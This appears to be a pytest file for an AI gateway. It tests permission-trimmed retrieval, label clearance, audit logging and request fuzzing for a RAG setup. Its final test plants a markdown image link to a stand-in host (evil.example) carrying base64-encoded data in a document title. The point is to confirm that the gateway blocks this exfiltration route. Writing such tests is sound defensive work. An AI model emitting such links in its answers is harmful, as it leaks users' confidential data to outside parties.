"""Knowledge through the gateway — the oversharing story end to end: Adele (staff, not on
Project Obsidian) asks a knowledge-backed model about Obsidian: no Obsidian content reaches the
model or the answer; a project member gets a cited answer labelled Confidential; both are
audited with the documents retrieved. /v1/retrieve and the authorization API for RAG apps
trim by permission inside the search and by the label clearance policy decides."""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from tests.gateway.harness import Harness, Options, auth, chat, harness
from tests.gateway.scripted import ScriptedUpstream
from ztai.core.model import PrincipalKind
from ztai.gateway.classify import Classifier
from ztai.gateway.knowledge import ChatBinding
from ztai.identity.apikey import KeySpec, issue_key
from ztai.knowledge.index import KnowledgeIndex
from ztai.knowledge.model import Document, DocumentId
from ztai.policy.bundled import starter_policies
from ztai.protection.labels import LabelScheme
from ztai.protection.pii import structured_pii_detector
from ztai.storage.model import RiskLevel, RiskRecord

pytestmark = pytest.mark.anyio

OBSIDIAN = ("Project Obsidian status: the solid-state cathode pilot line moves to Rotterdam in "
            "the third quarter; the supplier stays secret until both parties sign.")
HANDBOOK = ("Staff handbook: paid leave is 25 days a year; the Obsidian meeting room on floor "
            "two can be booked through the front desk.")
ROADMAP = "Public roadmap: the new expense tool ships in the spring for every office."


def documents() -> list[Document]:
    return [
        Document(DocumentId("obsidian-plan"), OBSIDIAN, frozenset({"group:obsidian"}),
                 "user:olga", "Obsidian plan", "sharepoint", "Confidential"),
        Document(DocumentId("handbook"), HANDBOOK, frozenset({"everyone"}), None,
                 "Staff handbook", "sharepoint", "General"),
        Document(DocumentId("roadmap"), ROADMAP, frozenset({"everyone"}), None,
                 "Roadmap", "web", "Public"),
    ]


@pytest.fixture
def index(tmp_path: Path) -> Iterator[KnowledgeIndex]:
    built = KnowledgeIndex.build(tmp_path / "kb", documents())
    built.close()
    opened = KnowledgeIndex.open(tmp_path / "kb")
    yield opened
    opened.close()


def context_of(body: Mapping[str, Any]) -> str:
    """What the model was given: the messages the gateway added."""
    return "\n".join(m["content"] for m in body["messages"] if m["role"] == "system")


def options(index: KnowledgeIndex, upstream: ScriptedUpstream) -> Options:
    return Options(upstream=upstream, knowledge={"corp": index},
                   knowledge_chat={"demo-chat": ChatBinding("corp", k=4)},
                   dlp=Classifier((structured_pii_detector(),), LabelScheme()))


def key(h: Harness, name: str, *groups: str) -> str:
    return issue_key(h.key_store, KeySpec(name, PrincipalKind.USER, frozenset(groups)),
                     h.clock)[0].reveal()


async def test_the_oversharing_story(tmp_path: Path, index: KnowledgeIndex) -> None:
    upstream = ScriptedUpstream(lambda body: "From the sources: " + context_of(body)[-200:])
    async with harness(tmp_path, options(index, upstream)) as h:
        adele, olga = key(h, "adele", "staff"), key(h, "olga", "staff", "obsidian")
        question = chat(text="What is the status of Project Obsidian?")
        for_adele = await h.client.post("/v1/chat/completions", json=question,
                                        headers=auth(adele))
        adele_sent, adele_event = upstream.received[-1], h.last_event()
        for_olga = await h.client.post("/v1/chat/completions", json=question,
                                       headers=auth(olga))
        olga_sent, olga_event = upstream.received[-1], h.last_event()
    assert for_adele.status_code == 200
    assert "cathode" not in context_of(adele_sent)  # nothing of the plan reached the model
    assert "cathode" not in for_adele.text
    assert "obsidian-plan" not in str(adele_event)
    assert adele_event["details"]["documents"] == "handbook"  # the room, not the project
    assert adele_event["response_label"] == "General"

    assert for_olga.status_code == 200
    assert "cathode" in context_of(olga_sent)
    citations = for_olga.json()["ztai_citations"]
    assert citations[0]["document"] == "obsidian-plan"
    assert citations[0]["label"] == "Confidential"
    assert olga_event["label"] == "Confidential"
    assert olga_event["response_label"] == "Confidential"
    assert "obsidian-plan" in olga_event["details"]["documents"]


async def test_a_member_on_a_consumer_model_is_stopped_by_the_label(
        tmp_path: Path, index: KnowledgeIndex) -> None:
    upstream = ScriptedUpstream(lambda body: "ok")
    opts = options(index, upstream)
    opts.knowledge_chat = {"demo-consumer-chat": ChatBinding("corp")}
    async with harness(tmp_path, opts) as h:
        olga = key(h, "olga", "staff", "obsidian")
        answer = await h.client.post("/v1/chat/completions", headers=auth(olga),
                                     json=chat("demo-consumer-chat", "Obsidian status?"))
        event = h.last_event()
    assert answer.status_code == 403
    assert "no-confidential-to-consumer-models" in event["decision"]["policy_ids"]
    assert upstream.received == []


async def test_retrieve_trims_inside_the_search(tmp_path: Path, index: KnowledgeIndex) -> None:
    async with harness(tmp_path, options(index, ScriptedUpstream())) as h:
        adele, olga = key(h, "adele", "staff"), key(h, "olga", "staff", "obsidian")
        mallory = key(h, "mallory", "staff", "contractors", "obsidian")
        answers = {}
        for who, k in (("adele", adele), ("olga", olga), ("mallory", mallory)):
            found = await h.client.post("/v1/retrieve", headers=auth(k),
                                        json={"query": "Obsidian", "k": 5})
            assert found.status_code == 200, found.text
            answers[who] = [item["document"] for item in found.json()["data"]]
        events = [e for e in h.events() if e["route"] == "retrieve"]
    assert "obsidian-plan" in answers["olga"]
    assert "obsidian-plan" not in answers["adele"]
    olga_event = next(e for e in events if e["principal"] == "olga")
    assert olga_event["response_label"] == "Confidential"  # the documents' label carries over
    # a contractor on the project: the ACL lets him, the label clearance does not
    assert "obsidian-plan" not in answers["mallory"]
    assert events[-1]["details"]["cleared_to"] == "General"
    assert all(e["action"] == "retrieve" for e in events)


async def test_elevated_risk_narrows_the_clearance(tmp_path: Path,
                                                   index: KnowledgeIndex) -> None:
    async with harness(tmp_path, options(index, ScriptedUpstream())) as h:
        olga = key(h, "olga", "staff", "obsidian")
        h.control.set_risk(RiskRecord("user:olga", RiskLevel.ELEVATED, "test", "user:root",
                                      h.clock.now()))
        found = await h.client.post("/v1/retrieve", headers=auth(olga),
                                    json={"query": "Obsidian"})
    assert "obsidian-plan" not in [item["document"] for item in found.json()["data"]]


async def test_the_authorization_api_for_rag_apps(tmp_path: Path,
                                                  index: KnowledgeIndex) -> None:
    async with harness(tmp_path, options(index, ScriptedUpstream())) as h:
        adele = key(h, "adele", "staff")
        answer = await h.client.post("/v1/knowledge/authorize", headers=auth(adele), json={
            "documents": ["obsidian-plan", "handbook", "no-such-doc"]})
        bad = await h.client.post("/v1/knowledge/authorize", headers=auth(adele),
                                  json={"documents": "handbook"})
        nobody = await h.client.post("/v1/knowledge/authorize", json={"documents": ["x"]})
    body = answer.json()
    assert [p["document"] for p in body["permitted"]] == ["handbook"]
    assert body["permitted"][0]["label"] == "General"
    assert {d["document"] for d in body["denied"]} == {"obsidian-plan", "no-such-doc"}
    assert bad.status_code == 400
    assert nobody.status_code == 401


async def test_a_service_without_a_grant_retrieves_nothing(tmp_path: Path,
                                                          index: KnowledgeIndex) -> None:
    async with harness(tmp_path, options(index, ScriptedUpstream())) as h:
        denied = await h.client.post("/v1/retrieve", headers=auth(h.keys["nogrant"]),
                                     json={"query": "handbook"})
        unknown = await h.client.post("/v1/retrieve", headers=auth(h.keys["alice"]),
                                      json={"query": "x", "knowledge_base": "other"})
    assert denied.status_code == 403
    assert unknown.status_code == 400


async def test_permission_changes_and_deletes_apply_to_the_next_request(
        tmp_path: Path, index: KnowledgeIndex) -> None:
    writer = KnowledgeIndex.open(tmp_path / "kb", writable=True)  # as `ztai knowledge index`
    try:
        async with harness(tmp_path, options(index, ScriptedUpstream())) as h:
            adele = key(h, "adele", "staff")

            async def found() -> list[str]:
                answer = await h.client.post("/v1/retrieve", headers=auth(adele),
                                             json={"query": "Obsidian"})
                return [item["document"] for item in answer.json()["data"]]

            before = await found()
            writer.set_acl("obsidian-plan", frozenset({"group:obsidian", "user:adele"}),
                           "user:olga")
            shared = await found()
            writer.delete(["obsidian-plan"])
            deleted = await found()
    finally:
        writer.close()
    assert "obsidian-plan" not in before
    assert "obsidian-plan" in shared
    assert "obsidian-plan" not in deleted


def test_retrieved_titles_and_sources_are_read_by_the_answer_checks() -> None:
    """A title can name what a document holds; until 2026-11-27 only the chunk's text was read."""
    from ztai.gateway.knowledge import HitsReader

    body = {"data": [{"document": "d1", "title": "Salary of jane.doe@example.com",
                      "source": "https://hr.corp.example/d1", "text": "band 4", "chunk": 0},
                     {"document": "d2", "title": "", "source": None, "text": "x"}]}
    assert HitsReader().pieces(body) == [
        ("data[0].text", "band 4"), ("data[0].title", "Salary of jane.doe@example.com"),
        ("data[0].source", "https://hr.corp.example/d1"), ("data[1].text", "x")]


_ODD: list[Any] = [None, True, 0, -1, 2**70, 1.5, "", "Obsidian", "handbook", "\u0301\uff46",
                   "a" * 3000, [], {}, ["handbook"], [5], {"x": 1}]


@pytest.mark.parametrize("seed", [1, 2])
async def test_random_knowledge_requests_are_answered_without_a_server_error(
        tmp_path: Path, index: KnowledgeIndex, seed: int) -> None:
    """Random fields of any type on /v1/retrieve, /v1/knowledge/authorize and a
    knowledge-backed chat: each answered, never a 5xx, each refusal an error object, each
    request one audit event (nothing found in 6 seeds on 2026-11-28)."""
    rng = random.Random(seed)  # noqa: S311 -- reproducible test input
    failed = []
    async with harness(tmp_path, options(index, ScriptedUpstream())) as h:
        olga = key(h, "olga", "staff", "obsidian")
        for _ in range(120):
            path, body = rng.choice([
                ("/v1/retrieve", {"query": "Obsidian plan", "k": 3}),
                ("/v1/knowledge/authorize", {"documents": ["handbook", "obsidian-plan"]}),
                ("/v1/chat/completions", chat(text="What is in the Obsidian plan?"))])
            for _ in range(rng.randint(1, 3)):
                body[rng.choice(["query", "k", "documents", "base", "filter", "messages",
                                 "model", "x"])] = rng.choice(_ODD)
            before = len(h.events())
            response = await h.client.post(path, headers=auth(olga), json=body)
            new = len(h.events()) - before
            if response.status_code >= 500 or new != 1 or (
                    response.status_code >= 400 and "error" not in response.json()):
                failed.append(f"{path} {body!r:.200} -> {response.status_code} ({new} events)")
    assert not failed, "\n".join(failed[:8])


async def test_a_citation_s_title_is_judged_as_the_answer_is(tmp_path: Path) -> None:
    """A document's title comes back in ``ztai_citations``; until 2026-11-28 it was added after
    the answer's checks, so a markdown image in it carrying data off the allow-list reached
    the client unjudged."""
    exfil = "![logo](https://evil.example/p.png?d=c2VjcmV0LXBsYW4tZGV0YWlscw)"
    built = KnowledgeIndex.build(tmp_path / "kb2", [
        Document(DocumentId("faq"), "The support FAQ explains how to reset a password.",
                 frozenset({"everyone"}), None, f"Support FAQ {exfil}", "web", "General")])
    built.close()
    index = KnowledgeIndex.open(tmp_path / "kb2")
    try:
        async with harness(tmp_path, Options(
                upstream=ScriptedUpstream(lambda _: "See the FAQ."), knowledge={"corp": index},
                knowledge_chat={"demo-chat": ChatBinding("corp", k=4)},
                dlp=Classifier((structured_pii_detector(),), LabelScheme()),
                policy_texts=starter_policies())) as h:
            adele = key(h, "adele", "staff")
            response = await h.client.post("/v1/chat/completions", headers=auth(adele),
                                           json=chat(text="How do I reset a password?"))
            event = h.last_event()
    finally:
        index.close()
    assert "evil.example" not in response.text
    assert (response.status_code, event["status"]) == (403, 403)  # as in the model's words
    assert "no-exfiltration-in-answers" in response.json()["error"]["message"]
